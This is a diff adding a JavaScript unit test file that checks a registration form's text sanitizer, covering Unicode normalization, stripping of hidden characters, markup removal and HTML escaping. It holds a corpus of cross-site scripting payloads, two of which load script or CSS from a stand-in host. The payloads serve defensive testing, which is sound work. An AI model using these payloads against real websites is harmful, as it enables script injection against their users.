@@ -0,0 +1,161 @@
+import { describe, it, expect } from 'vitest';
+import { sanitizeText, sanitizeValues, escapeHtml } from "../utils/sanitize.js";
+import { validateRegistration, prepareRegistration } from "../utils/registration.js";
+
+/**
+ * Known injection payloads (OWASP XSS filter evasion cheat sheet and variants),
+ * each hidden in an otherwise valid name.
+ */
+const INJECTION_PAYLOADS = [
+    "<script>alert(1)</script>",
+    "<SCRIPT SRC=//evil.example/xss.js></SCRIPT>",
+    "<scr<script>ipt>alert(1)</scr</script>ipt>",
+    "<script>alert(1)",
+    "<img src=x onerror=alert(1)>",
+    "<IMG SRC=\"javascript:alert('XSS');\">",
+    "<svg/onload=alert(1)>",
+    "<body onload=alert(1)>",
+    "<iframe src=\"javascript:alert(1)\"></iframe>",
+    "<a href=\"javascript:alert(1)\">click</a>",
+    "<style>@import 'http://evil.example/xss.css';</style>",
+    "<!--<script>alert(1)</script>-->",
+    "<<script>script>alert(1)<</script>/script>",
+    "\"><script>alert(1)</script>",
+    "'><svg onload=alert(1)>",
+    "<scr\u200Bipt>alert(1)</scr\u200Bipt>",
+    "<scr\u200Dipt>alert(1)</scr\u200Cipt>",
+    "<img\u200C src=x onerror=alert(1)>",
+    "<scr\u0000ipt>alert(1)</script>",
+    "＜script＞alert(1)＜/script＞",
+    "<details open ontoggle=alert(1)>",
+    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
+    "<",
+    ">",
+];
+
+/**
+ * Characters that must never survive sanitization.
+ */
+const FORBIDDEN = /[<>\u0000-\u001F\u007F-\u009F\u200B\u200E\u200F\u202A-\u202E\u2066-\u2069\uFEFF]/;
+
+/**
+ * Text spelled with the zero-width non-joiner (U+200C) or joiner (U+200D), which must be kept.
+ */
+const JOINER_TEXTS = [
+    "می\u200Cخواهم",
+    "مهر\u200Cانگیز",
+    "क्\u200Dष",
+    "ശ്രീ\u200Cകുമാർ",
+    "👩\u200D💻",
+    "👨\u200D👩\u200D👧",
+];
+
+describe("sanitize", () => {
+
+    it("should leave ordinary text alone", () => {
+        ["Jean", "Saint-Étienne", "O'Brien", "De La Fontaine ", "first+tag@example.com", "75001", "R&D"].forEach(text => {
+            expect(sanitizeText(text)).toBe(text);
+        });
+    });
+
+    it("should normalize to NFC", () => {
+        expect(sanitizeText("Nguye\u0302\u0303n")).toBe("Nguyễn");
+    });
+
+    it("should remove control characters and turn line breaks into spaces", () => {
+        expect(sanitizeText("Pa\u0000ris\u0007")).toBe("Paris");
+        expect(sanitizeText("Jean\nPierre\tMarie\u2028")).toBe("Jean Pierre Marie ");
+        expect(sanitizeText("Lyon\u0085\u009B")).toBe("Lyon");
+    });
+
+    it("should remove bidi overrides and zero-width characters", () => {
+        expect(sanitizeText("\u202Egnp.exe")).toBe("gnp.exe");
+        expect(sanitizeText("Pa\u200Bri\u2060s\uFEFF")).toBe("Paris");
+        expect(sanitizeText("\u2066Jean\u2069\u200E")).toBe("Jean");
+        expect(sanitizeText("Jean\uDB40\uDC41")).toBe("Jean");
+    });
+
+    it("should keep the zero-width non-joiner and joiner that scripts and emoji need", () => {
+        JOINER_TEXTS.forEach(text => {
+            expect(sanitizeText(text), text).toBe(text);
+            expect(sanitizeText(`<b>${text}</b>`, { typing: true }), text).toBe(text);
+        });
+        expect(sanitizeText("می\u200Cخواهم")).not.toBe("میخواهم");
+    });
+
+    it("should remove markup and keep the text around it", () => {
+        expect(sanitizeText("<b>Marie</b>")).toBe("Marie");
+        expect(sanitizeText("Jean<script>alert(1)</script>")).toBe("Jean");
+        expect(sanitizeText("a < b > c")).toBe("a  b  c");
+    });
+
+    it("should keep unclosed tags and lone brackets while typing", () => {
+        expect(sanitizeText("3<b")).toBe("3");
+        expect(sanitizeText("3<b", { typing: true })).toBe("3<b");
+        expect(sanitizeText("Tom <tom@x.fr>", { typing: true })).toBe("Tom <tom@x.fr>");
+        expect(sanitizeText("a < b > c", { typing: true })).toBe("a < b > c");
+        expect(sanitizeText("Jean<script", { typing: true })).toBe("Jean<script");
+        expect(sanitizeText("<!-- note", { typing: true })).toBe("<!-- note");
+    });
+
+    it("should remove complete markup while typing", () => {
+        expect(sanitizeText("<b>Marie</b>", { typing: true })).toBe("Marie");
+        expect(sanitizeText("Jean<script>alert(1)</script>", { typing: true })).toBe("Jean");
+        expect(sanitizeText("Jean<img src=x onerror=alert(1)>", { typing: true })).toBe("Jean");
+        expect(sanitizeText("Jean<svg/onload=alert(1)>", { typing: true })).toBe("Jean");
+        expect(sanitizeText("Pa<!-- x -->ris\u200B", { typing: true })).toBe("Paris");
+    });
+
+    it("should neutralize every payload of the injection corpus", () => {
+        INJECTION_PAYLOADS.forEach(payload => {
+            const sanitized = sanitizeText(`Jean${payload}`);
+            expect(sanitized, payload).not.toMatch(FORBIDDEN);
+            expect(sanitized.toLowerCase(), payload).not.toMatch(/<\s*(script|img|svg|iframe|style)/);
+        });
+    });
+
+    it("should sanitize string values only", () => {
+        const birth = new Date(1995, 4, 15);
+
+        expect(sanitizeValues({ town: "Paris\u200B", birth, count: 2 })).toEqual({ town: "Paris", birth, count: 2 });
+    });
+
+    it("should escape HTML for output outside React", () => {
+        expect(escapeHtml("O'Brien & <Co> \"Ltd\"")).toBe("O&#39;Brien &amp; &lt;Co&gt; &quot;Ltd&quot;");
+        expect(escapeHtml(undefined)).toBe("");
+    });
+
+    it("should validate and store the sanitized record", () => {
+        const record = {
+            lastname: "<b>martin</b>",
+            firstname: "Lé\u200Ba",
+            email: "lea@example.fr\u202E",
+            phone: "06 12 34 56 78",
+            birth: "1995-05-15",
+            streetNumber: "12bis",
+            streetName: "RUE DE <i>RIVOLI</i>",
+            country: "FR",
+            postCode: "75001",
+            town: "<script>alert(1)</script>Paris",
+        };
+
+        expect(validateRegistration(record, { now: new Date(2026, 0, 1) })).toEqual({ valid: true, errors: {} });
+        expect(prepareRegistration(record)).toMatchObject({
+            lastname: "martin",
+            firstname: "Léa",
+            email: "lea@example.fr",
+            phone: "+33612345678",
+            streetNumber: "12 bis",
+            streetName: "Rue de Rivoli",
+            town: "Paris",
+            department: "75",
+        });
+    });
+
+    it("should still reject what remains invalid after sanitization", () => {
+        const { errors } = validateRegistration({ lastname: "<img src=x onerror=alert(1)>", town: "javascript:alert(1)" });
+
+        expect(errors.lastname.code).toBe("REQUIRED");
+        expect(errors.town.code).toBe("INVALID_TOWN");
+    });
+});